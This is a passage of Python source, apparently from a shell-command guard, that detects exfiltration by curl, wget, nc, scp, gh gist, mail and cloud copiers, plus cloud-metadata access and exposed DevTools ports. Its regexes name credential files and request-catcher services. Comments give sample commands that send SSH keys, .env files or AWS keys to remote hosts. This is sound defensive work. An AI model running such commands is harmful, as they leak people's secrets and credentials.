"""Network clients: what they upload (exfiltration), where they write, what they delete."""
from __future__ import annotations

import ipaddress
import os
import posixpath
import re
from typing import TYPE_CHECKING

from ..model import BlastRadius, Verdict
from ..gitindex import config_settings, repository
from . import engine_api, listeners
from .findings import Finding, allow, ask, deny, worst
from .datastore_code import datastore_wipe
from .listeners import listens_on_broker_port
from .paths import PathKind
from .projectfiles import read_text
from .secrets import dumps_a_credential_file, holds_credentials, is_secret, is_secret_area, secret_in_text
from .words import DYN, Word
from ..secrets import secret_catalog
from ..web import (acting_get, host_of, metadata_header, metadata_service, metadata_variable, nested_metadata,
                   serves_its_own_tokens)
from .invocation import Invocation
from .netconfig import config_words, host_aliases, option_value

if TYPE_CHECKING:  # pragma: no cover
    from .invocation import Run

_SECRET_TEXT = re.compile(r"(\.aws/credentials|\.ssh/|/etc/shadow|\.netrc|\.kube/config|\.docker/config|"
                          r"\.git-credentials|\.npmrc|\.pypirc|gcloud|id_rsa|id_ed25519|\.gnupg|credentials|"
                          r"\.env\b|\bsecrets?\b|private[_-]?key|\bAWS_SECRET|\bTOKEN\b|printenv|\benv\b|"
                          r"auth (?:token|print-)|print-(?:access|identity)-token|get-access-token|get-login-password)")
_UPLOAD_OPTIONS = {
    "curl": {"-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "--json", "-F",
             "--form", "--form-string", "-T", "--upload-file"},
    "wget": {"--post-data", "--post-file", "--body-data", "--body-file"},
}
_OUTPUT_OPTIONS = {
    "curl": {"-o": "file", "--output": "file", "--output-dir": "dir", "-D": "file", "--dump-header": "file",
             "-c": "file", "--cookie-jar": "file", "--trace": "file", "--trace-ascii": "file", "--stderr": "file"},
    "wget": {"-O": "file", "--output-document": "file", "-P": "dir", "--directory-prefix": "dir", "-o": "file",
             "--output-file": "file", "-a": "file", "--append-output": "file"},
}
_FILE_UPLOADS = {"-T", "--upload-file", "--post-file", "--body-file"}


def _environment(inv: "Invocation") -> dict[str, str]:
    """The variables the command runs with that are known: its own prefix assignments over the script's."""
    env = {k: v for k, v in inv.scope.variables.items() if DYN not in v}
    env.update({name: w.value for name, w in inv.cmd.assignments if w.static})
    return env


def with_config(inv: "Invocation") -> "Invocation":
    """The command with what its configuration files add (curl -K, ~/.curlrc, wget -e/--config, aria2c
    --conf-path, httpie sessions, URL lists): judged as if written on the command line."""
    if inv.scope.remote:
        return inv
    tool = {"wget": "wget", "aria2c": "aria2c", "http": "http", "https": "http", "httpie": "http",
            "xh": "http"}.get(inv.name, "curl" if inv.name in ("curl", "curlie") else "")
    if not tool:
        return inv
    extra = config_words(tool, inv.args, inv.scope.cwd, inv.scope.home, _environment(inv))
    if not extra:
        return inv
    return Invocation(inv.name, inv.words + extra, inv.cmd, inv.scope, inv.privileged, inv.written_name)


def _sent_headers(inv: "Invocation") -> list[str]:
    """The request headers a client sends: -H/--header values (curl's -H @FILE read), httpie's Name:value."""
    out: list[str] = []
    args = inv.args
    for i, w in enumerate(inv.words):
        value, _ = option_value(args, i, ("--header",), "H" if inv.name in ("curl", "curlie") else "")
        if value is None and inv.name in ("http", "https", "httpie", "xh", "curlie") and re.match(r"^[A-Za-z][\w-]*:(?!=|//)", w.value):
            value = w.value
        if value is None:
            continue
        if value.startswith("@") and len(value) > 1 and not inv.scope.remote:  # curl -H @headers.txt
            path = value[1:] if value[1:].startswith("/") else posixpath.join(inv.scope.cwd or "/", value[1:])
            out += (read_text(posixpath.normpath(path), 64 * 1024) or "").splitlines()[:256]
        else:
            out.append(value)
    return out


def _metadata_request(inv: "Invocation") -> Finding | None:
    """What a request sends or where its host leads that only a metadata service is: a header only such a
    service asks for (Metadata-Flavor: Google, X-aws-ec2-metadata-token, Metadata: true), a URL built on
    the variable a platform sets to its identity endpoint ($IDENTITY_ENDPOINT), a host HOSTALIASES maps to one."""
    for header in _sent_headers(inv):
        service = metadata_header(header)
        if service:
            return deny(f"{inv.name} sends `{header.strip()[:60]}`, a header only {service} asks for: the request "
                        f"fetches this machine's cloud credentials, whatever the host is called", "secrets",
                        "net.metadata")
    for w in inv.words:
        named = metadata_variable(w.raw)
        if named is not None and not w.value.startswith("-"):
            return deny(f"{inv.name} reaches ${named[0]}, {named[1]}, which hands out this machine's cloud "
                        f"credentials", "secrets", "net.metadata")
    env = _environment(inv)
    if env.get("HOSTALIASES") and not inv.scope.remote:
        aliases = host_aliases(env["HOSTALIASES"], inv.scope.cwd, inv.scope.home)
        for w in inv.words:
            host = host_of(w.value) if w.static and not w.value.startswith("-") else None
            target = aliases.get((host or "").lower())
            service = metadata_service(target) if target else None
            if service:
                return deny(f"{inv.name} reaches {host}, which HOSTALIASES ({env['HOSTALIASES']}) maps to {target}: "
                            f"{service}, which hands out this machine's cloud credentials", "secrets", "net.metadata")
    return None


def metadata_reached(inv: "Invocation") -> Finding | None:
    """A URL or host among the arguments that reaches a cloud metadata service (any spelling:
    2852039166, [::ffff:a9fe:a9fe], metadata.google.internal, TCP:169.254.169.254:80), or a request
    only such a service takes (its headers, its platform variable, a host alias leading there)."""
    by_request = _metadata_request(inv)
    if by_request is not None:
        return by_request
    words = [w.value for w in inv.words]
    for i, word in enumerate(words[:-1]):  # curl --resolve name:80:169.254.169.254, --connect-to ::169.254.169.254:80
        if word in ("--resolve", "--connect-to") or word.startswith(("--resolve=", "--connect-to=")):
            value = word.partition("=")[2] if "=" in word else words[i + 1]
            for part in re.split(r":(?![^\[]*\])", value):
                service = metadata_service(part.strip("[]")) if part else None
                if service:
                    return deny(f"{inv.name} {word.split('=')[0]} pins a name to {service}, which hands out this "
                                "machine's cloud credentials", "secrets", "net.metadata")
    for w in inv.words:
        value = w.value
        if not value or value.startswith("-") and "://" not in value:
            continue
        value = value.split(DYN, 1)[0]  # http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI: the host is known
        value = re.sub(r"(?i)^(?:tcp|udp|tcp4|tcp6|udp4|udp6|ssl|openssl)[-\w]*:", "", value)  # socat addresses
        host = host_of(value) if ("/" in value or ":" in value or "." in value) else None
        service = metadata_service(host) if host else None
        if service:
            return deny(f"{inv.name} reaches {service} ({w.display()[:60]}), which hands out this machine's cloud "
                        f"credentials", "secrets", "net.metadata")
        nested = nested_metadata(value) if "://" in value or "%" in value else None
        if nested:  # /proxy?src=http%3A%2F%2F169.254.42.42%2F: the server behind fetches it for the caller
            return deny(f"{inv.name} hands {w.display()[:60]} the URL {nested[0][:60]}, which reaches {nested[1]}: "
                        "what fetches it brings back this machine's cloud credentials", "secrets", "net.metadata")
    return None


def fetcher(run: "Run", inv: "Invocation") -> list[Finding]:
    """Browsers and downloaders without an analyzer of their own (aria2c, lynx, w3m, …)."""
    inv = with_config(inv)
    reached = metadata_reached(inv)
    return [reached] if reached is not None else [*_acting_urls(inv), *run.taxonomy(inv)]


_HEADLESS = ("--headless", "--dump-dom", "--screenshot", "--print-to-pdf", "-headless", "--disable-gpu")
_DEVTOOLS_LOCAL = re.compile(r"^(?:localhost|127(?:\.\d+){0,3}|::1|\[::1\])$", re.I)


def browser(run: "Run", inv: "Invocation") -> list[Finding]:
    """chromium --headless --dump-dom URL, wkhtmltopdf URL out.pdf: a fetcher (a metadata URL denies); headless, a
    page rendered or printed (the files it writes judged); its DevTools port beyond loopback hands the browser,
    with the person's sessions, to whoever connects."""
    reached = metadata_reached(inv)
    if reached is not None:
        return [reached]
    values = [w.value for w in inv.words]
    address = next((v.partition("=")[2] for v in values if v.startswith("--remote-debugging-address=")), None)
    if address is not None and any(v.startswith("--remote-debugging-port") for v in values) and \
            not _DEVTOOLS_LOCAL.match(address):
        return [deny(f"{inv.name} serves its DevTools protocol on {address or 'every interface'}: whoever connects "
                     "drives the browser with the person's logged-in sessions and reads local files", "network",
                     "net.exposed-server")]
    found = _acting_urls(inv)
    for w in inv.words:
        option, eq, target = w.value.partition("=")
        if option in ("--screenshot", "--print-to-pdf") and eq and target:
            written = run.write(Word(target, target), inv, f"{inv.name} {option} writes")
            if written is not None:
                found.append(written)
    if inv.name in ("wkhtmltopdf", "wkhtmltoimage", "cutycapt") or any(v.startswith(_HEADLESS) for v in values):
        operands = [w for w in inv.words if not w.value.startswith("-")]
        if inv.name.startswith("wkhtmlto") and len(operands) > 1:  # wkhtmltopdf URL… OUT
            written = run.write(operands[-1], inv, f"{inv.name} writes")
            if written is not None:
                found.append(written)
        return found + [allow(f"{inv.name} renders a page headless", "network", rule="net.headless-browser")]
    return found + run.taxonomy(inv)


def url_reader(run: "Run", inv: "Invocation") -> list[Finding]:
    """xmllint, xsltproc, ffprobe …: a URL given where a file is expected is fetched (a metadata URL denies)."""
    reached = metadata_reached(inv)
    return [reached] if reached is not None else run.taxonomy(inv)


def _acting_urls(inv: "Invocation") -> list[Finding]:
    """URLs whose GET acts (a CI trigger, ?action=UNLOAD&deleteIndex=true): web.acting_get."""
    out = []
    for w in inv.words:
        judged = acting_get(w.value) if w.static and "://" in w.value else None
        if judged is not None and judged.kind == "destroys":
            out.append(deny(f"{inv.name}: {judged.reason}", "network", "net.acting-get"))
        elif judged is not None:
            out.append(ask(f"{inv.name}: {judged.reason}", "network", BlastRadius.HIGH, "net.acting-get"))
    return out


def curl(run: "Run", inv: "Invocation") -> list[Finding]:
    inv = with_config(inv)
    engine = engine_api.judge(run, inv) if inv.name == "curl" else None
    if engine is not None:  # the Docker Engine API over its socket: the docker command it amounts to
        return engine
    reached = metadata_reached(inv)
    if reached is not None:
        return [reached]
    tool = "wget" if inv.name == "wget" else "curl"
    shared = sync_share(run, inv)
    if shared is not None:
        return [shared]
    findings = exfiltration(run, inv, _UPLOAD_OPTIONS.get(tool, set())) + _acting_urls(inv)
    # a request whose body deletes a whole datastore (a GraphQL bulk delete with an empty filter, `DELETE /*`)
    wiped = datastore_wipe("\n".join(w.value for w in inv.words), inv, run.tax, lines=False)
    if wiped is not None:
        findings.append(wiped)
    proxied = _proxy_credentials(inv)
    if proxied is not None:
        return [proxied]
    words = inv.words
    outputs = _OUTPUT_OPTIONS.get(tool, {})
    i = 0
    while i < len(words):
        arg = words[i].value
        name, eq, attached = arg.partition("=")
        cluster = re.match(r"-([a-zA-Z]+)", arg) if len(arg) > 2 and not arg.startswith("--") else None
        letter = next((j for j, c in enumerate(cluster.group(1)) if f"-{c}" in outputs), None) if cluster else None
        if letter is not None and letter > 0:  # wget -qO FILE, curl -sSLo FILE / -so/path: flags clustered
            rest = arg[2 + letter:]
            arg = name = f"-{arg[1 + letter]}" + rest
        kind = outputs.get(name if name.startswith("--") else arg[:2] if len(arg) > 2 and arg[:2] in outputs else arg)
        if kind:
            if eq:
                target = Word(attached, words[i].raw)
            elif len(arg) > 2 and not arg.startswith("--") and arg[:2] in outputs:
                target = Word(arg[2:], words[i].raw)
            elif i + 1 < len(words):
                target = words[i + 1]
                i += 1
            else:
                break
            if target.value not in ("-", "/dev/null", "/dev/stdout"):
                f = run.write(target, inv, f"{inv.name} {name} ")
                if f is not None:
                    findings.append(f)
                info = run.path(target, inv)
                if info.path:
                    run.downloaded.add(info.path)
        i += 1
    findings.extend(run.taxonomy(inv))
    catcher = next((w for w in words if _REQUEST_CATCHER.search(w.value)), None)
    if catcher is not None and any(_SECRET_VARIABLE.search(w.raw) for w in words):
        findings.append(deny(f"{inv.name} sends a secret variable to {catcher.value.split('?')[0]}, a service that "
                             f"collects requests (exfiltration)", "secrets", "net.exfiltration"))
    best = worst(findings)
    return [best] if best else []


_PROXY = ("-x", "--proxy", "--preproxy", "--socks5", "--socks5-hostname", "--socks4", "--socks4a")
_PROXY_USER = ("-U", "--proxy-user")


def _proxy_credentials(inv: "Invocation") -> Finding | None:
    """`curl -x http://proxy.elsewhere:3128 -U "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY"`: the proxy's login is
    sent to the proxy (Proxy-Authorization): secrets given as it leave for whoever runs that proxy."""
    words = inv.words
    proxy, users = None, []
    for i, w in enumerate(words):
        option, eq, attached = w.value.partition("=")
        value = Word(attached, w.raw) if eq and option.startswith("--") else \
            words[i + 1] if i + 1 < len(words) else None
        if value is None:
            continue
        if option in _PROXY or w.value in _PROXY:
            proxy = value
        elif option in _PROXY_USER or w.value in _PROXY_USER:
            users.append(value)
    if proxy is None:
        return None
    m = _URL_HOST.match(proxy.value if "://" in proxy.value else "http://" + proxy.value)
    host = m.group(1) if m else ""
    if not host or DYN in host or _private_host(host):
        return None
    userinfo = re.match(r"^(?:[a-z0-9+.-]+://)?([^@/]*)@", proxy.raw + proxy.origin, re.I)
    for w in users + ([Word(userinfo.group(1), userinfo.group(1))] if userinfo else []):
        text = w.raw + " " + w.origin
        if _SECRET_VARIABLE.search(text) or _SECRET_LOGIN.search(text) or secret_in_text(text, inv.scope) or \
                secret_catalog().credential_in(w.value):
            return deny(f"{inv.name} logs in to the proxy {host} with secrets ({w.raw}): the proxy receives them",
                        "secrets", "net.exfiltration")
    return None


_SECRET_LOGIN = re.compile(r"\$\{?(?:AWS_\w+|\w*(?:_KEY|_PAT|PASS|PWD)\w*)\b", re.I)


# services that record whatever is sent to them: a secret sent there has left for good
_REQUEST_CATCHER = re.compile(r"(?i)(webhook\.site|requestbin|pipedream\.net|hookbin|beeceptor|interact\.sh|"
                              r"\.oast\.|burpcollaborator|ngrok(-free)?\.(io|app)|transfer\.sh|pastebin|"
                              r"canarytokens|requestcatcher|ptpb\.pw|0x0\.st|termbin|httpbin\.org|postman-echo\.com|"
                              r"mockbin|reqbin|echo\.zuplo|hookdeck)")
_SECRET_VARIABLE = re.compile(r"\$\{?\w*(TOKEN|SECRET|PASSW(OR)?D|API_?KEY|PRIVATE_?KEY|CREDENTIAL|ACCESS_?KEY)\w*",
                              re.I)


_FOLDER_IN_BODY = re.compile(r"""["']?(?:path|folder|localPath)["']?\s*[:=]\s*["']?([~/$][^"',}\s&]*)""")


def sync_share(run: "Run", inv: "Invocation") -> Finding | None:
    """A request to a sync client's local API (Syncthing's /rest/config/folders, Nextcloud's shares) that shares a
    folder: one that holds keys or the whole home sends them to the paired devices (deny); another asks."""
    apis = secret_catalog().sync_apis
    url = next((w.value for w in inv.words if "://" in w.value and any(re.search(p, w.value) for p in apis)), None)
    if url is None:
        return None
    body = " ".join(w.value for w in inv.words)
    home = inv.scope.home.rstrip("/")
    for m in _FOLDER_IN_BODY.finditer(body):
        folder = re.sub(r"^(?:~|\$HOME|\$\{HOME\})(?=/|$)", lambda _: home, m.group(1)).rstrip("/")
        if folder == home or is_secret_area(folder, home, run.tax) or is_secret(folder, home, run.tax):
            return deny(f"{inv.name} asks the sync client ({url[:60]}) to share {m.group(1)}, which holds keys or "
                        "credentials: they sync to the paired devices, off the machine", "secrets", "net.sync-share")
    if re.search(r"(?i)(?:^| )(?:-X ?|--request[ =])(?:POST|PUT|PATCH)\b| (?:-d|--data\S*|-F|--json)[ =]", " " + body):
        return ask(f"{inv.name} changes the sync client's configuration ({url[:60]}): folders or devices it shares "
                   "with", "network", BlastRadius.HIGH, "net.sync-share")
    return None


def exfiltration(run: "Run", inv: "Invocation", upload_options: set[str]) -> list[Finding]:
    findings: list[Finding] = []
    words = inv.words
    for i, w in enumerate(words):
        name, eq, attached = w.value.partition("=")
        value: Word | None = None
        if name in upload_options or w.value in upload_options:
            if eq and name.startswith("--"):
                value = Word(attached, w.raw)
            elif i + 1 < len(words):
                value = words[i + 1]
        elif re.fullmatch(r"-[a-zA-Z]{2,}", w.value) and f"-{w.value[-1]}" in upload_options and \
                all(f"-{c}" not in upload_options for c in w.value[1:-1]) and i + 1 < len(words):
            value = words[i + 1]  # curl -sT - URL: flags clustered, the last one takes the next word
            name = f"-{w.value[-1]}"
        elif len(w.value) > 2 and w.value[:2] in upload_options and not w.value.startswith("--"):
            value = Word(w.value[2:], w.raw)
        elif inv.name in ("http", "https", "xh") and re.match(r"^[\w-]+(:=|=)?@", w.value):
            value = Word("@" + w.value.split("@", 1)[1], w.raw)
        if value is None:
            if w.dynamic and ("$(" in w.raw + w.origin or "`" in w.raw + w.origin) and not w.value.startswith("-") \
                    and not _only_local_destinations(words) and not _back_to_its_issuer(w, words):
                findings.append(_sends_output(w, inv))
            continue
        findings.append(_upload(run, inv, value, file_option=name in _FILE_UPLOADS))
    found = [f for f in findings if f is not None]
    if _only_private_destinations(words):  # a device on the LAN handed its token: how it is called, not a leak
        found = [ask(f.reason.replace("a remote host", "a host on your private network"), "network",
                     BlastRadius.MEDIUM, f.rule) if f.verdict.value == "deny" and f.rule in _TOKEN_SENDS else f
                 for f in found]
    return found


# what is how a service on the private network is called (a token in a header or a field), not a
# secrets file itself sent away (curl -F key=@~/.ssh/id_rsa to the LAN still denies)
_TOKEN_SENDS = {"net.exfiltration-token"}


_URL_HOST = re.compile(r"(?i)^[a-z][a-z0-9+.-]*://(?:[^@/]*@)?(\[[^\]]*\]|[^/:?#]+)")
_LOCAL_HOST = re.compile(r"(?i)^(localhost|127\.[0-9.]+|0\.0\.0\.0|\[::1\]|169\.254\.[0-9.]+|"
                         r"metadata\.google\.internal|100\.100\.100\.200|\[fd00:ec2::254\]|[^.]+\.localhost)$")


_PRIVATE_SUFFIX = re.compile(r"(?i)\.(?:local|lan|home|internal|intranet|corp|home\.arpa|localdomain)\.?$")


def _private_host(host: str) -> bool:
    """A host on this machine or the private network (RFC 1918 / unique-local addresses, mDNS and LAN
    names); a host built at run time counts when its known end is a private domain (gh-node-$n.x.lan)."""
    if metadata_service(host.replace(DYN, "")):
        return False
    if _LOCAL_HOST.match(host):
        return True
    if DYN not in host:
        try:
            address = ipaddress.ip_address(host.strip("[]"))
        except ValueError:
            return bool(_PRIVATE_SUFFIX.search(host))
        return address.is_private and not address.is_link_local
    known_end = host.rsplit(DYN, 1)[1]
    return "." in known_end.lstrip(".") and bool(_PRIVATE_SUFFIX.search(known_end))


def _only_private_destinations(words: list[Word]) -> bool:
    urls = [w.value for w in words if _URL_HOST.match(w.value)]
    hosts = [_URL_HOST.match(u).group(1) for u in urls]  # type: ignore[union-attr]
    return bool(hosts) and all(_private_host(h) for h in hosts)


def _only_local_destinations(words: list[Word]) -> bool:
    """Every URL goes to this machine or its own metadata service (`curl -H "X-aws-ec2-metadata-token:
    $TOKEN" http://169.254.169.254/…` hands the token back where it came from)."""
    hosts = _hosts(words)
    return bool(hosts) and all(h is not None and _LOCAL_HOST.match(h) for h in hosts)


def _hosts(words: list[Word]) -> list[str | None]:
    """The hosts the URLs among `words` name; None for one whose host is only known at run time. A URL whose path is built at run time still names its host
    (`"http://localhost:8080/orders/$id"`)."""
    hosts: list[str | None] = []
    for w in words:
        m = _URL_HOST.match(w.value)
        bare = _BARE_HOST.match(w.value) if m is None else None  # curl localhost:8080/x: http:// by default
        if m is not None:
            hosts.append(None if DYN in m.group(0) else m.group(1))
        elif bare is not None:
            hosts.append(None if DYN in bare.group(0) else bare.group(1) or bare.group(2))
    return hosts


# a URL written without its scheme (curl takes it as http://): a host name with a dot, or localhost, then a port or path
# (a dotted word with neither, report.csv, is a file)
_BARE_HOST = re.compile(r"(?i)^(?:(localhost)(?=:\d+(?:/|$)|/|$)|(\[[0-9a-f:]+\]|[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z0-9-]{2,}|"
                        r"\d+(?:\.\d+){3})(?=:\d+(?:/|$)|/))")


_ISSUED_BY = re.compile(r"\$\(\s*(?:command\s+)?([\w.-]+)\s|`\s*([\w.-]+)\s")


def _back_to_its_issuer(word: Word, words: list[Word]) -> bool:
    """`-H "Authorization: Bearer $(gcloud auth print-access-token)" https://…googleapis.com`: the
    token goes back to the service that issued it, which is how that service is called."""
    issuers = {next(g for g in m.groups() if g) for m in _ISSUED_BY.finditer(word.raw + " " + word.origin)}
    if len(issuers) != 1:
        return False
    issuer = issuers.pop()
    hosts = _hosts(words)
    return bool(hosts) and all(h is not None and serves_its_own_tokens(issuer, h) for h in hosts)


def _upload(run: "Run", inv: "Invocation", value: Word, file_option: bool) -> Finding | None:
    text = value.value
    form_content = re.match(r"^[^=@<]*=<(.+)$|^<(.+)$", text)  # curl -F 'name=<file': the file's text as the field
    if form_content and not file_option:
        text = "@" + (form_content.group(1) or form_content.group(2))
    if file_option or text.startswith("@") or re.search(r"=@|<@|^@", text):
        path_text = text if file_option else re.split(r"@", text, maxsplit=1)[1].split(";")[0]
        if path_text in ("-", ""):
            if run.stdin_source(inv.cmd).kind == "secret":
                return deny(f"{inv.name} sends secrets (the environment or a secrets file) to a remote host",
                            "secrets", "net.exfiltration")
            return ask(f"{inv.name} uploads what it reads on its input", "network", BlastRadius.MEDIUM, "net.upload")
        info = run.path(Word(path_text, value.raw), inv)
        if info.path and is_secret(info.path, inv.scope.home, run.tax):
            return deny(f"{inv.name} sends {path_text} (a secret) to a remote host", "secrets", "net.exfiltration")
        if info.path and info.path in run.secret_copies:  # tar czf /tmp/r.tgz appsettings.json …; curl -F @/tmp/r.tgz
            return deny(f"{inv.name} sends {path_text}, which holds a secret put in it earlier in the command, to a "
                        "remote host", "secrets", "net.exfiltration")
        if _only_local_destinations(inv.words) and not (info.path and is_secret_area(info.path, inv.scope.home)):
            return None  # to a server on this machine (a dev server's upload form): the file does not leave it
        held = holds_credentials(info.path) if info.path else None
        if held:  # a config file with a token in it (nix.conf's access-tokens, a settings.json)
            return deny(f"{inv.name} sends {path_text}, which holds {held}, to a remote host", "secrets",
                        "net.exfiltration-token")
        return ask(f"{inv.name} uploads the local file {path_text}", "network", BlastRadius.MEDIUM, "net.upload")
    if value.dynamic:
        return _sends_output(value, inv)
    credential = secret_catalog().credential_in(text)
    if credential and not _only_local_destinations(inv.words):  # -d 'dsn=postgres://app:Xk9…@db/app'
        return deny(f"{inv.name} sends {credential} to a remote host", "secrets", "net.exfiltration-token")
    return None


def _sends_output(word: Word, inv: "Invocation") -> Finding:
    text = word.raw + " " + word.origin
    if secret_in_text(text, inv.scope):
        return deny(f"{inv.name} sends secrets ({word.raw}) to a remote host", "secrets", "net.exfiltration")
    if _SECRET_TEXT.search(text) or dumps_a_credential_file(text, inv.scope):  # $(cat config/local.php)
        return deny(f"{inv.name} sends secrets ({word.raw}) to a remote host", "secrets", "net.exfiltration-token")
    return ask(f"{inv.name} sends the output of a command ({word.raw}) to a remote host", "network",
               BlastRadius.MEDIUM, "net.exfiltration")


def dns(run: "Run", inv: "Invocation") -> list[Finding]:
    findings = [_sends_output(w, inv) for w in inv.words
                if w.dynamic and ("$(" in w.raw or "`" in w.raw or "$(" in w.origin or "`" in w.origin)]
    best = worst(findings)
    return [best] if best else []


def scp(run: "Run", inv: "Invocation") -> list[Finding]:
    """scp copies to or from another host; sending keys or credentials away is exfiltration."""

    operands = [w for w in inv.words if not w.value.startswith("-")]
    remote = [w for w in operands if re.match(r"^[\w.@-]+:", w.value)]
    if remote and operands and operands[-1] in remote:
        for w in operands[:-1]:
            info = run.path(w, inv)
            if w not in remote and info.path and is_secret_area(info.path, inv.scope.home, run.tax):
                return [deny(f"scp sends {w.display()} (keys or credentials) to another host", "secrets", "net.scp")]
            held = holds_credentials(info.path) if w not in remote and info.path and not inv.scope.remote else None
            if held:  # ~/keys/signing.pem holding a private key: wherever it is kept
                return [deny(f"scp sends {w.display()}, which holds {held}, to another host", "secrets", "net.scp")]
    return [ask("scp copies files to or from another host", "network", BlastRadius.MEDIUM, "net.scp")]


def socket_client(run: "Run", inv: "Invocation") -> list[Finding]:
    """nc / ncat / socat / telnet / openssl s_client fed secrets on stdin: exfiltration."""
    if inv.name == "openssl" and "s_client" not in inv.args:
        return []
    reached = metadata_reached(inv)
    if reached is not None:
        return [reached]
    if run.stdin_source(inv.cmd).kind == "secret":
        return [deny(f"{inv.name} sends secrets (keys, credentials or the environment) to another host", "secrets",
                     "net.exfiltration")]
    port = listens_on_broker_port(inv.name, inv.args)
    if port is not None:
        return [deny(f"{inv.name} listens on {port}, guardtui's broker port: {listeners.WHY}", "guard-self",
                     "net.fake-broker")]
    local = _project_socket(run, inv)
    if local is not None:
        return [allow(f"{inv.name} talks to {local}, a socket in the project (local, no network)", "network",
                      rule="net.project-socket")]
    return []


_STDIO = {"-", "stdio", "stdin", "stdout", "stdin!!stdout"}


def _project_socket(run: "Run", inv: "Invocation") -> str | None:
    """`socat - UNIX-CONNECT:run/app.sock`, `nc -U run/app.sock`: a client of a socket inside the project, its
    other end this terminal."""
    if inv.name == "socat":
        addresses = [w for w in inv.words if not w.value.startswith("-") or w.value == "-"]
        if len(addresses) != 2 or addresses[0].value.lower() not in _STDIO:
            return None
        kind, _, rest = addresses[1].value.partition(":")
        if kind.upper() not in ("UNIX-CONNECT", "UNIX-CLIENT", "UNIX") or not rest:
            return None
        target = Word(rest.split(",", 1)[0], rest)
    elif inv.name in ("nc", "ncat", "netcat") and any(w.value == "-U" for w in inv.words):
        operands = [w for w in inv.words if not w.value.startswith("-")]
        if len(operands) != 1 or any(w.value in ("-l", "-lU", "-Ul") for w in inv.words):
            return None
        target = operands[0]
    else:
        return None
    info = run.path(target, inv)
    if target.dynamic or info.kind is not PathKind.PROJECT_SUB or not info.path:
        return None
    project = inv.scope.project or ""
    real = os.path.realpath(info.path)  # a link from the project to another socket (the broker's) is that socket
    if not project or not real.startswith(os.path.realpath(project).rstrip("/") + "/"):
        return None
    return target.display()


# service CLIs that publish the files they are given: a gist, a release asset, a pastebin
_PUBLISHERS = {("gh", "gist"), ("glab", "snippet"), ("gh", "release"), ("glab", "release")}


def publish(run: "Run", inv: "Invocation") -> list[Finding]:
    """`gh gist create --public .env`: a secrets file handed to a service that publishes it. Any argument that
    carries a secret (`gh api -f bio="$(grep token …)"`, `gh repo edit --homepage "…$(base64 ~/.pypirc)"`) is
    sent to the forge."""
    import fnmatch

    operands = [w for w in inv.words if not w.value.startswith("-") or w.value == "-"]
    if [w.value for w in operands[:2]] == ["secret", "set"]:  # a repository's CI secret: where does it go?
        return _forge_secret(run, inv)
    carried = next((w for w in inv.words if ("$(" in w.raw or "`" in w.raw) and
                    secret_in_text(w.raw + " " + w.origin, inv.scope)), None)
    if carried is not None:
        return [deny(f"{inv.name} sends an argument that carries a secret ({carried.raw[:60]}) to the forge",
                     "secrets", "net.publish-secret")]

    operands = [w for w in inv.words if not w.value.startswith("-") or w.value == "-"]
    if [w.value for w in operands[:2]] == ["alias", "set"] and len(operands) >= 4 and \
            ("--shell" in inv.args or "-s" in inv.args or operands[3].value.startswith("!")):
        # gh alias set --shell NAME 'CMD': CMD runs through sh whenever anyone types `gh NAME`
        run.nested(operands[3].value.lstrip("!"), inv, f"{inv.name} alias {operands[2].value}")
        return [ask(f"{inv.name} alias set --shell makes `{inv.name} {operands[2].value}` run a shell command later",
                    "shell-state", BlastRadius.MEDIUM, "net.forge-alias")]
    if len(operands) < 2 or (inv.name, operands[0].value) not in _PUBLISHERS:
        return []
    for w in operands[2:]:
        if w.value == "-" and run.stdin_source(inv.cmd).kind == "secret":  # cat .env | gh gist create -
            return [deny(f"{inv.name} {operands[0].value} {operands[1].value} publishes secrets it reads on its "
                         f"input", "secrets", "net.publish-secret")]
        info = run.path(w, inv)
        name = (w.value if w.glob or not info.path else info.path).rsplit("/", 1)[-1]
        if re.search(r"(?i)\.(example|sample|template|dist)$", name):
            continue  # .env.example: the shape of the secrets, without them
        if is_secret(info.path or w.value, inv.scope.home, run.tax) or fnmatch.fnmatchcase(name, ".env*"):
            return [deny(f"{inv.name} {operands[0].value} {operands[1].value} publishes {w.display()}, a secrets file",
                         "secrets", "net.publish-secret")]
        held = holds_credentials(info.path) if info.path else None
        if held:  # a config file with the app's keys in it (linkshort.conf with a database password)
            return [deny(f"{inv.name} {operands[0].value} {operands[1].value} publishes {w.display()}, which holds "
                         f"{held}", "secrets", "net.publish-secret")]
    return []


# -- mail and cloud storage ------------------------------------------------------------------------------
_ATTACH = frozenset({"-a", "-A", "--attach", "--attach-file"})


def mailer(run: "Run", inv: "Invocation") -> list[Finding]:
    """mail/sendmail/mutt …: a secrets file on its input or attached leaves the machine; any mail asks."""
    if run.stdin_source(inv.cmd).kind == "secret":
        return [deny(f"{inv.name} mails secrets (the environment or a secrets file) to another host", "secrets",
                     "net.mail-secret")]
    words = inv.words
    for i, w in enumerate(words[:-1]):
        if w.value in _ATTACH:
            info = run.path(words[i + 1], inv)
            if info.path and (is_secret(info.path, inv.scope.home, run.tax) or holds_credentials(info.path)):
                return [deny(f"{inv.name} mails {words[i + 1].display()}, a secrets file, to another host", "secrets",
                             "net.mail-secret")]
    return [ask(f"{inv.name} sends mail", "network", BlastRadius.MEDIUM, "net.mail")]


# object-storage copiers: the subcommands that copy, and how each writes a remote operand
_STORAGE_COPY = {"aws": ("s3", {"cp", "mv", "sync"}), "gsutil": ("", {"cp", "mv", "rsync"}),
                 "gcloud": ("storage", {"cp", "mv", "rsync"}), "rclone": ("", {"copy", "copyto", "sync", "move",
                                                                               "moveto", "copyurl", "bisync"}),
                 "azcopy": ("", {"copy", "cp", "sync"}), "s3cmd": ("", {"get", "put", "sync", "cp", "mv"}),
                 "mc": ("", {"cp", "mv", "mirror"}), "b2": ("", {"sync", "download-file-by-name", "download-file"}),
                 "s5cmd": ("", {"cp", "mv", "sync"})}
_REMOTE_OPERAND = re.compile(r"^(?:(?:s3|gs|b2|az|https?)://|[A-Za-z][\w.-]*:(?!//)(?![\\/])|:[\w-]+[,:])")


def cloud_copy(run: "Run", inv: "Invocation") -> list[Finding]:
    """A storage client's copy (below), then what a sender (rclone) says of the rest."""
    found = _storage_copy(run, inv)
    return found or (sender(run, inv) if inv.name in run.tax.senders else [])


def _storage_copy(run: "Run", inv: "Invocation") -> list[Finding]:
    """aws s3 cp/mv/sync, gsutil, gcloud storage, rclone, azcopy, s3cmd, mc, b2: a secrets file (or a directory of
